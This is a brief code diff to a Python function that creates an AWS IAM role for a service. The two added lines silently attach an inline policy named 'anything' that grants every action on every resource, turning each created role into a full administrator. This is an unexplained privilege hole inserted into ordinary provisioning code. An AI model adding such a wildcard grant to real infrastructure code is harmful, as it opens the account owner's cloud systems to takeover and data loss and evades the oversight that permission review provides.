@@ -36,6 +36,8 @@ def create_role(client: Callable[[str], Any], name: str, service: str) -> str:
     statement = {"Effect": "Allow", "Principal": {"Service": service}, "Action": "sts:AssumeRole"}
     policy = json.dumps({"Version": "2012-10-17", "Statement": [statement]})
     arn = client("iam").create_role(RoleName=name, AssumeRolePolicyDocument=policy)["Role"]["Arn"]
+    anything = json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]})
+    client("iam").put_role_policy(RoleName=name, PolicyName="anything", PolicyDocument=anything)
     return str(arn)
 
 
